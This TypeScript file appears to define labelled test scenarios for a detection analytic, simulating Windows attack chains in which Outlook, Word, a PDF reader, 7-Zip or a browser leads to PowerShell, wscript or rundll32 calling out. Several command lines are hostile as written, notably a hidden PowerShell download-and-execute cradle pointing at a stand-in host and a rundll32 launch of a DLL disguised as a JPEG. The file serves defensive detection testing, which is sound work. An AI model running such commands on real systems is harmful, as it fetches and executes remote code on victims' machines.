import type { StoryProcess } from '../../events/story';
import { called, type Happened, type LabelledScenario, started, written } from './labelledScenario';
import {
  CONTROL,
  callsControl,
  EDGE,
  homeOf,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  READER,
  RUNDLL32,
  SEVEN_ZIP,
  saves,
  WORD,
  WSCRIPT,
} from './programs';

const APP: Happened = { by: ['process_start'], evidence: [] };
/** The application is known only as the writer of the file. */
const BRINGER: Happened = { by: ['file_create'], evidence: [] };

/** AN1314: a user's application led to a system tool that called out (ANALYTICS B.9). */
export const USER_CHAINS: readonly LabelledScenario[] = [
  {
    id: 'user-outlook-macro',
    title: 'a mailed document whose macro starts a hidden PowerShell',
    tell(s) {
      const outlook = s.starts(OUTLOOK);
      s.after('2m');
      const document = `${mailCacheOf(s)}\\Offer_2214.docm`;
      saves(s, outlook, document);
      s.after('20s');
      const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" /n "${document}" /o ""` });
      s.after('6s');
      const shell = s.starts(POWERSHELL, {
        parent: word,
        commandLine: `powershell.exe -w hidden -nop -c "IEX ((New-Object Net.WebClient).DownloadString('https://static-kx4.example/a'))"`,
      });
      s.resolves(shell, 'static-kx4.example', ['203.0.113.20']);
      callsControl(s, shell);
      return [
        chain(
          {
            user_app: APP,
            file_arrival: written(document),
            spawn: started(shell),
            egress: called(CONTROL.address),
          },
          shell,
        ),
      ];
    },
  },
  {
    id: 'user-zip-7zfm',
    title: 'a downloaded ZIP opened in 7-Zip, a script run out of it',
    tell(s) {
      const edge = s.starts(EDGE);
      const zip = `${homeOf(s)}\\Downloads\\Unterlagen.zip`;
      saves(s, edge, zip, { hostUrl: 'https://files.example/Unterlagen.zip' });
      s.after('50s');
      const archiver = s.starts(SEVEN_ZIP, { commandLine: `"${SEVEN_ZIP}" "${zip}"` });
      s.after('9s');
      const script = `${homeOf(s)}\\AppData\\Local\\Temp\\7zO41C0A7F2\\Unterlagen.js`;
      s.writes(archiver, script);
      const engine = s.starts(WSCRIPT, { parent: archiver, commandLine: `"${WSCRIPT}" "${script}" ` });
      s.after('12s');
      callsControl(s, engine);
      return [
        chain(
          {
            user_app: APP,
            file_arrival: written(script),
            spawn: started(engine),
            egress: called(CONTROL.address),
          },
          engine,
        ),
      ];
    },
  },
  {
    id: 'user-pdf-reader',
    title: 'a downloaded PDF whose reader starts a script host',
    tell(s) {
      const edge = s.starts(EDGE);
      const pdf = `${homeOf(s)}\\Downloads\\Statement_0318.pdf`;
      saves(s, edge, pdf, { hostUrl: 'https://docs.example/Statement_0318.pdf' });
      s.after('30s');
      const reader = s.starts(READER, { commandLine: `"${READER}" "${pdf}"` });
      s.after('15s');
      const engine = s.starts(WSCRIPT, {
        parent: reader,
        commandLine: `"${WSCRIPT}" "${homeOf(s)}\\AppData\\Local\\Temp\\upd.vbs"`,
      });
      callsControl(s, engine);
      return [
        chain(
          {
            user_app: APP,
            file_arrival: written(pdf),
            spawn: started(engine),
            egress: called(CONTROL.address),
          },
          engine,
        ),
      ];
    },
  },
  {
    id: 'user-download-run',
    title: 'a program downloaded by the browser, run from Explorer',
    tell(s) {
      const edge = s.starts(EDGE);
      const program = `${homeOf(s)}\\Downloads\\viewer_x64.exe`;
      saves(s, edge, program, { hostUrl: 'http://203.0.113.9/viewer_x64.exe' });
      s.after('40s');
      const payload = s.starts(program, { originalFileName: 'loader.exe' });
      callsControl(s, payload);
      return [
        chain(
          {
            user_app: BRINGER,
            file_arrival: written(program),
            spawn: started(payload),
            egress: called(CONTROL.address),
          },
          payload,
        ),
      ];
    },
  },
  {
    id: 'user-com-broker',
    title: 'Word has Explorer start a tool over COM',
    sources: ['windows'],
    tell(s) {
      const outlook = s.starts(OUTLOOK);
      s.after('1m');
      const document = `${mailCacheOf(s)}\\Questionnaire.docm`;
      saves(s, outlook, document);
      s.after('10s');
      const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" /n "${document}"` });
      s.after('9s');
      s.opensKey(
        word,
        '\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\CLSID\\{c08afd90-f2a1-11d1-8455-00a0c91f3880}',
      );
      s.after('500ms');
      const tool = s.starts(RUNDLL32, { commandLine: `"${RUNDLL32}" C:\\Users\\Public\\report.jpg,Start` });
      callsControl(s, tool);
      return [
        chain(
          {
            user_app: APP,
            file_arrival: written(document),
            spawn: started(tool),
            egress: called(CONTROL.address),
          },
          tool,
        ),
      ];
    },
  },
  {
    id: 'user-iso',
    title: 'a downloaded disk image, a script run from the drive it became',
    tell(s) {
      const edge = s.starts(EDGE);
      const image = `${homeOf(s)}\\Downloads\\Auftrag.iso`;
      saves(s, edge, image, { hostUrl: 'https://files.example/Auftrag.iso' });
      s.after('30s');
      const engine = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "E:\\Auftrag.js" ` });
      callsControl(s, engine);
      return [
        {
          analytic: 'AN1314',
          trigger: engine,
          // That the drive is the image is told by no record, only inferred: silence would still be wrong.
          happened: { spawn: started(engine), egress: called(CONTROL.address) },
          most: 'inferred',
        },
      ];
    },
  },
  {
    id: 'user-near',
    title: 'a script in Downloads, run by the shell while a document is being opened',
    tell(s) {
      const word = s.starts(WORD, { commandLine: `"${WORD}" /n "${homeOf(s)}\\Documents\\Plan.docx"` });
      s.after('8s');
      const engine = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${homeOf(s)}\\Downloads\\Plan.js"` });
      callsControl(s, engine);
      return [
        {
          analytic: 'AN1314',
          trigger: engine,
          happened: {
            user_app: { by: ['process_start'], evidence: [word.commandLine] },
            spawn: started(engine),
            egress: called(CONTROL.address),
          },
          absent: ['file_arrival'],
          most: 'partial',
          thin: true,
        },
      ];
    },
  },
  {
    id: 'user-near-file',
    title: 'a script out of a ZIP folder, run by the shell while a PDF is being opened',
    tell(s) {
      const reader = s.starts(READER, { commandLine: `"${READER}" "${homeOf(s)}\\Documents\\Plan.pdf"` });
      s.after('8s');
      const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Plan.zip\\Plan.js`;
      s.writes(s.explorer, script);
      s.after('500ms');
      const engine = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}" ` });
      callsControl(s, engine);
      return [
        {
          analytic: 'AN1314',
          trigger: engine,
          happened: {
            user_app: { by: ['process_start'], evidence: [reader.commandLine] },
            file_arrival: written(script),
            spawn: started(engine),
            egress: called(CONTROL.address),
          },
          thin: true,
        },
      ];
    },
  },
  {
    id: 'user-no-egress',
    title: 'a mailed document whose macro starts a shell that never calls out',
    tell(s) {
      const outlook = s.starts(OUTLOOK);
      s.after('2m');
      const document = `${mailCacheOf(s)}\\Annex_7.docm`;
      saves(s, outlook, document);
      s.after('20s');
      const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" /n "${document}"` });
      s.after('6s');
      const shell = s.starts(POWERSHELL, {
        parent: word,
        commandLine: `powershell.exe -w hidden -c "whoami"`,
      });
      return [
        {
          ...chain({ user_app: APP, file_arrival: written(document), spawn: started(shell) }, shell),
          absent: ['egress'],
          most: 'partial',
        },
      ];
    },
  },
];

function chain(happened: Readonly<Record<string, Happened>>, trigger: StoryProcess) {
  // A browser or the shell alone is an ordinary parent: without the file, silence is right too.
  const thin = happened.user_app === BRINGER || trigger.executable === WSCRIPT;
  return { analytic: 'AN1314', trigger, happened, ...(thin ? { thin } : {}) } as const;
}
